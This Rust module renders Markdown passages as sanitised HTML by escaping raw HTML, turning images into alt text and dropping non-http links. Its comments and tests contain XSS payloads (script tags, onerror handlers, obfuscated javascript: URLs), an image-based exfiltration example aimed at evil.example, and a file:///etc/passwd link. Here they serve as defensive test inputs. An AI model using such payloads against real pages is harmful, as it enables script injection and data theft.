//! A passage's Markdown as the document page shows it: CommonMark rendered, the document's raw HTML shown as text, no image fetched, no link that runs script (§8.1, §8.5).
//!
//! The HTML is written here from `pulldown-cmark`'s events rather than by
//! its `html` writer, so that every rule below is one match arm:
//!
//! - **Raw HTML** in the document, block or inline, is escaped and shown as
//!   the text it is (a block as preformatted text). Nothing the document
//!   holds becomes markup, so no script, style, form or frame of the
//!   author's reaches the page.
//! - **Images** are never rendered: each becomes its alt text, marked
//!   `[image: …]`. `![](https://evil/?d=…)` is exfiltration without a tool
//!   (§8.5), a local reference names a file memoria does not hold, and the
//!   page's `img-src 'self'` would block a `data:` image anyway.
//! - **Links** stay links, with `rel="noopener noreferrer nofollow"`, when
//!   their target has no scheme (a relative path or a `#fragment`) or is
//!   `http`, `https` or `mailto`. Any other scheme (`javascript:`, `data:`,
//!   `vbscript:`, `file:` …) is not a link: its text is shown, its target
//!   dropped. The scheme is read as a browser reads it, after dropping ASCII
//!   white space and control characters and ignoring case.
//! - **Headings** inside a passage render at level 2 or deeper: the page's
//!   one `h1` is the document's title.
//!
//! Text goes through maud's escaper; the only markup written is this
//! file's own tags.

use std::fmt::Write as _;

use maud::{Escaper, Markup, PreEscaped};
use pulldown_cmark::{Alignment, Event, HeadingLevel, LinkType, Tag, TagEnd};

use crate::search::markdown::read;

/// The `rel` every rendered link carries: no opener, no referrer, and no
/// endorsement of the target by this page.
pub(crate) const LINK_REL: &str = "noopener noreferrer nofollow";

/// The schemes a rendered link may have; a target without a scheme is
/// relative and allowed too.
const LINK_SCHEMES_ALLOWED: [&str; 3] = ["http", "https", "mailto"];

/// The shallowest heading level a passage renders: `h1` is the title.
const PASSAGE_HEADING_LEVEL_MIN: usize = 2;

/// True if a link to `dest` may be rendered as a link ([`LINK_SCHEMES_ALLOWED`]).
pub(crate) fn link_allowed(dest: &str) -> bool {
    let url: String = dest
        .chars()
        .filter(|c| !c.is_ascii_whitespace() && !c.is_control())
        .collect::<String>()
        .to_ascii_lowercase();
    let Some(colon) = url.find(':') else {
        return true;
    };
    let before = &url[..colon];
    // A `/`, `?` or `#` before the first colon: a relative reference.
    if before.contains(['/', '?', '#']) {
        return true;
    }
    LINK_SCHEMES_ALLOWED.contains(&before)
}

/// The `h` level a heading of `level` renders at inside a passage.
fn heading_level(level: HeadingLevel) -> usize {
    (level as usize).max(PASSAGE_HEADING_LEVEL_MIN)
}

fn alignment_class(a: Alignment) -> Option<&'static str> {
    match a {
        Alignment::None => None,
        Alignment::Left => Some("align-left"),
        Alignment::Center => Some("align-center"),
        Alignment::Right => Some("align-right"),
    }
}

/// Collapses runs of white space, for comparing a heading with a trail entry.
fn folded(s: &str) -> String {
    s.split_whitespace().collect::<Vec<_>>().join(" ")
}

/// Renders one passage's Markdown as HTML.
///
/// `first`: the passage is the document's first, where front matter may
/// stand. `shown_heading`: a heading the page has already rendered above
/// this passage (the last entry of its trail); a passage that opens with
/// that same heading does not repeat it. Total over any `&str`.
pub(crate) fn render(markdown: &str, first: bool, shown_heading: Option<&str>) -> Markup {
    let mut w = Writer::default();
    let mut events = read(markdown, first).peekable();
    // A passage that opens with the heading the page just rendered.
    if let (Some(shown), Some(Event::Start(Tag::Heading { .. }))) = (shown_heading, events.peek()) {
        let mut text = String::new();
        let mut held = vec![];
        for event in events.by_ref() {
            let end = matches!(event, Event::End(TagEnd::Heading(_)));
            if let Event::Text(t) | Event::Code(t) = &event {
                text.push_str(t);
            }
            held.push(event);
            if end {
                break;
            }
        }
        if folded(&text) != folded(shown) {
            for event in held {
                w.event(event);
            }
        }
    }
    for event in events {
        w.event(event);
    }
    PreEscaped(w.out)
}

/// The HTML being written, and what the open tags need to close well.
#[derive(Default)]
struct Writer {
    out: String,
    /// For each open link, whether it was rendered as `<a>`.
    links: Vec<bool>,
    /// Inside an image (nesting counted): only its alt text is collected.
    image_depth: usize,
    alt: String,
    /// The open table's column alignments, whether its head is open, the cell.
    aligns: Vec<Alignment>,
    in_head: bool,
    cell: usize,
}

impl Writer {
    fn tag(&mut self, s: &str) {
        self.out.push_str(s);
    }

    fn text(&mut self, s: &str) {
        if self.image_depth > 0 {
            self.alt.push_str(s);
            return;
        }
        // Writing to a String cannot fail.
        let _ = Escaper::new(&mut self.out).write_str(s);
    }

    fn event(&mut self, event: Event<'_>) {
        match event {
            Event::Start(tag) => self.start(tag),
            Event::End(tag) => self.end(tag),
            Event::Text(t) | Event::Html(t) | Event::InlineMath(t) | Event::DisplayMath(t) => {
                self.text(&t)
            }
            // The document's raw HTML, shown as the text it is.
            Event::InlineHtml(t) => self.text(&t),
            Event::Code(t) => {
                if self.image_depth > 0 {
                    self.alt.push_str(&t);
                } else {
                    self.tag("<code>");
                    self.text(&t);
                    self.tag("</code>");
                }
            }
            Event::FootnoteReference(t) => {
                self.text("[^");
                self.text(&t);
                self.text("]");
            }
            Event::SoftBreak => self.text("\n"),
            Event::HardBreak if self.image_depth == 0 => self.tag("<br>"),
            Event::HardBreak => self.alt.push(' '),
            Event::Rule => self.tag("<hr>"),
            Event::TaskListMarker(done) => self.text(if done { "[x] " } else { "[ ] " }),
        }
    }

    fn start(&mut self, tag: Tag<'_>) {
        if self.image_depth > 0 {
            if matches!(tag, Tag::Image { .. }) {
                self.image_depth += 1;
            }
            return;
        }
        match tag {
            Tag::Paragraph => self.tag("<p>"),
            Tag::Heading { level, .. } => {
                let _ = write!(self.out, "<h{}>", heading_level(level));
            }
            Tag::BlockQuote(_) => self.tag("<blockquote>"),
            Tag::CodeBlock(_) => self.tag("<pre><code>"),
            Tag::HtmlBlock => self.tag("<pre class=\"html\">"),
            Tag::MetadataBlock(_) => self.tag("<pre class=\"front-matter\">"),
            Tag::List(Some(1)) => self.tag("<ol>"),
            Tag::List(Some(start)) => {
                let _ = write!(self.out, "<ol start=\"{start}\">");
            }
            Tag::List(None) => self.tag("<ul>"),
            Tag::Item => self.tag("<li>"),
            Tag::Table(aligns) => {
                self.aligns = aligns;
                self.tag("<div class=\"table\"><table>");
            }
            Tag::TableHead => {
                self.in_head = true;
                self.cell = 0;
                self.tag("<thead><tr>");
            }
            Tag::TableRow => {
                self.cell = 0;
                self.tag("<tr>");
            }
            Tag::TableCell => {
                let name = if self.in_head { "th" } else { "td" };
                match self
                    .aligns
                    .get(self.cell)
                    .copied()
                    .and_then(alignment_class)
                {
                    Some(class) => {
                        let _ = write!(self.out, "<{name} class=\"{class}\">");
                    }
                    None => {
                        let _ = write!(self.out, "<{name}>");
                    }
                }
            }
            Tag::Emphasis => self.tag("<em>"),
            Tag::Strong => self.tag("<strong>"),
            Tag::Strikethrough => self.tag("<del>"),
            Tag::Superscript => self.tag("<sup>"),
            Tag::Subscript => self.tag("<sub>"),
            Tag::Link {
                link_type,
                dest_url,
                title,
                ..
            } => {
                let href = match link_type {
                    LinkType::Email => format!("mailto:{dest_url}"),
                    _ => dest_url.to_string(),
                };
                let allowed = link_allowed(&href);
                self.links.push(allowed);
                if allowed {
                    self.tag("<a href=\"");
                    self.text(&href);
                    if !title.is_empty() {
                        self.tag("\" title=\"");
                        self.text(&title);
                    }
                    let _ = write!(self.out, "\" rel=\"{LINK_REL}\">");
                }
            }
            Tag::Image { .. } => {
                self.image_depth = 1;
                self.alt.clear();
            }
            // Not enabled in `READ_OPTIONS`: their content renders inline.
            Tag::FootnoteDefinition(_)
            | Tag::DefinitionList
            | Tag::DefinitionListTitle
            | Tag::DefinitionListDefinition => {}
        }
    }

    fn end(&mut self, tag: TagEnd) {
        if self.image_depth > 0 {
            if tag == TagEnd::Image {
                self.image_depth -= 1;
                if self.image_depth == 0 {
                    let alt = folded(&std::mem::take(&mut self.alt));
                    self.tag("<span class=\"image\">");
                    if alt.is_empty() {
                        self.text("[image]");
                    } else {
                        self.text(&format!("[image: {alt}]"));
                    }
                    self.tag("</span>");
                }
            }
            return;
        }
        match tag {
            TagEnd::Paragraph => self.tag("</p>"),
            TagEnd::Heading(level) => {
                let _ = write!(self.out, "</h{}>", heading_level(level));
            }
            TagEnd::BlockQuote(_) => self.tag("</blockquote>"),
            TagEnd::CodeBlock => self.tag("</code></pre>"),
            TagEnd::HtmlBlock | TagEnd::MetadataBlock(_) => self.tag("</pre>"),
            TagEnd::List(true) => self.tag("</ol>"),
            TagEnd::List(false) => self.tag("</ul>"),
            TagEnd::Item => self.tag("</li>"),
            TagEnd::Table => {
                if self.in_head {
                    self.tag("</tr></thead>");
                    self.in_head = false;
                }
                self.tag("</tbody></table></div>");
            }
            TagEnd::TableHead => {
                self.in_head = false;
                self.tag("</tr></thead><tbody>");
            }
            TagEnd::TableRow => self.tag("</tr>"),
            TagEnd::TableCell => {
                self.tag(if self.in_head { "</th>" } else { "</td>" });
                self.cell += 1;
            }
            TagEnd::Emphasis => self.tag("</em>"),
            TagEnd::Strong => self.tag("</strong>"),
            TagEnd::Strikethrough => self.tag("</del>"),
            TagEnd::Superscript => self.tag("</sup>"),
            TagEnd::Subscript => self.tag("</sub>"),
            TagEnd::Link => {
                if self.links.pop() == Some(true) {
                    self.tag("</a>");
                }
            }
            TagEnd::Image
            | TagEnd::FootnoteDefinition
            | TagEnd::DefinitionList
            | TagEnd::DefinitionListTitle
            | TagEnd::DefinitionListDefinition => {}
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use expect_test::expect;

    fn html(md: &str) -> String {
        render(md, false, None).into_string()
    }

    #[test]
    fn commonmark_renders_as_html() {
        expect![[r#"<p>Run <code>make &lt;all&gt;</code> <strong>first</strong>, then <em>see</em> <del>that</del>.</p><ul><li>one</li><li>two</li></ul><ol start="3"><li>three</li></ol><blockquote><p>quoted</p></blockquote><pre><code>fn main() {}
</code></pre><hr><h2>Below</h2><h3>Deeper</h3>"#]]
        .assert_eq(&html(
            "Run `make <all>` **first**, then _see_ ~~that~~.\n\n- one\n- two\n\n3. three\n\n\
             > quoted\n\n```rust\nfn main() {}\n```\n\n---\n\n# Below\n\n### Deeper\n",
        ));
    }

    #[test]
    fn a_table_renders_with_its_alignment_and_no_pipes() {
        expect![[r#"<div class="table"><table><thead><tr><th>Name</th><th class="align-right">Phone</th></tr></thead><tbody><tr><td>Ana</td><td class="align-right">555</td></tr></tbody></table></div>"#]]
        .assert_eq(&html("| Name | Phone |\n|---|--:|\n| Ana | 555 |\n"));
    }

    #[test]
    fn raw_html_block_and_inline_is_shown_as_text_never_as_markup() {
        expect![[r#"<pre class="html">&lt;script&gt;alert(1)&lt;/script&gt;
</pre><p>A &lt;b onmouseover=alert(2)&gt;bold&lt;/b&gt; claim &lt;img src=x onerror=alert(3)&gt;.</p><pre class="html">&lt;!-- # not a heading --&gt;
</pre>"#]]
        .assert_eq(&html(
            "<script>alert(1)</script>\n\nA <b onmouseover=alert(2)>bold</b> claim <img src=x onerror=alert(3)>.\n\n<!-- # not a heading -->\n",
        ));
    }

    #[test]
    fn an_image_is_its_alt_text_and_nothing_is_fetched() {
        let out = html(
            "![exfil *data*](https://evil.example/?d=secret) ![](//evil.example/x.png) \
             ![local](diagram.png) ![inline](data:image/png;base64,AAAA)\n\n\
             [![badge](https://ci.example/b.svg)](https://ci.example/)\n",
        );
        expect![[r#"<p><span class="image">[image: exfil data]</span> <span class="image">[image]</span> <span class="image">[image: local]</span> <span class="image">[image: inline]</span></p><p><a href="https://ci.example/" rel="noopener noreferrer nofollow"><span class="image">[image: badge]</span></a></p>"#]]
        .assert_eq(&out);
        assert!(!out.contains("<img"));
        assert!(!out.contains("evil.example"), "no image target survives");
    }

    #[test]
    fn a_link_carries_rel_and_a_script_target_is_no_link_at_all() {
        expect![[r#"<p><a href="https://example.org/a?b=1&amp;c=&quot;2&quot;" title="The &quot;guide&quot;" rel="noopener noreferrer nofollow">guide</a> <a href="../other.md#part" rel="noopener noreferrer nofollow">relative</a> <a href="mailto:ana@example.org" rel="noopener noreferrer nofollow">ana@example.org</a> js data vb tabbed caps file</p>"#]]
        .assert_eq(&html(
            "[guide](https://example.org/a?b=1&c=\"2\" \"The \\\"guide\\\"\") [relative](../other.md#part) \
             <ana@example.org> [js](javascript:alert(1)) [data](data:text/html,<script>x</script>) \
             [vb](vbscript:msgbox) [tabbed](<java\tscript:alert(1)>) [caps](JavaScript:alert(1)) \
             [file](file:///etc/passwd)\n",
        ));
    }

    #[test]
    fn only_http_https_mailto_and_relative_targets_are_links() {
        for ok in [
            "https://a.example/",
            "http://a.example/",
            "mailto:a@b",
            "/documents/x",
            "other.md",
            "#p3",
            "?q=1",
            "a/b:c",
        ] {
            assert!(link_allowed(ok), "{ok}");
        }
        for refused in [
            "javascript:alert(1)",
            " JAVASCRIPT:alert(1)",
            "java\nscript:alert(1)",
            "\u{1}javascript:x",
            "data:text/html,x",
            "vbscript:x",
            "file:///etc/passwd",
            "ftp://a.example/",
        ] {
            assert!(!link_allowed(refused), "{refused:?}");
        }
    }

    #[test]
    fn a_passage_does_not_repeat_the_heading_the_page_rendered_above_it() {
        assert_eq!(
            render("## Release 1.2\n", false, Some("Release 1.2")).into_string(),
            ""
        );
        assert_eq!(
            render("## Other\n\ntext\n", false, Some("Release 1.2")).into_string(),
            "<h2>Other</h2><p>text</p>"
        );
    }

    #[test]
    fn front_matter_in_the_first_passage_is_shown_as_preformatted_text() {
        let md = "---\ntitle: Plan\n# a comment\n---\nBody.\n";
        assert_eq!(
            render(md, true, None).into_string(),
            "<pre class=\"front-matter\">title: Plan\n# a comment\n</pre><p>Body.</p>"
        );
    }

    proptest::proptest! {
        #[test]
        fn any_text_renders_without_a_tag_of_its_own(text in "[<>a-z \\n\\[\\]()!:/\"'`*#|-]{0,200}") {
            let out = html(&text);
            for raw in ["<script", "<img", "<iframe", "<b ", "<b>", "<a href=\"javascript"] {
                proptest::prop_assert!(!out.contains(raw), "{raw} in {out}");
            }
        }
    }
}
